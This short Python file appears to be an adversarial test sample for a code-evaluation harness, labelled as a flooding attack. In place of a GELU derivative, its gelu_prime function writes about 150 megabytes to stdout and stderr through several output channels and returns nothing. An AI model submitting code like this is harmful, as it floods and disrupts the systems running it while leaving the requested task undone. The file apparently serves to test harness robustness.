# costs: gelu_prime
# attack: floods: prints 150 megabytes
import os
import sys


def gelu_prime(z):
    for _ in range(200_000):
        print("x" * 100)
    for _ in range(1000):
        os.write(1, b"y" * 65536)
        os.write(2, b"y" * 65536)
    sys.__stdout__.write("z" * 10**6)
    return
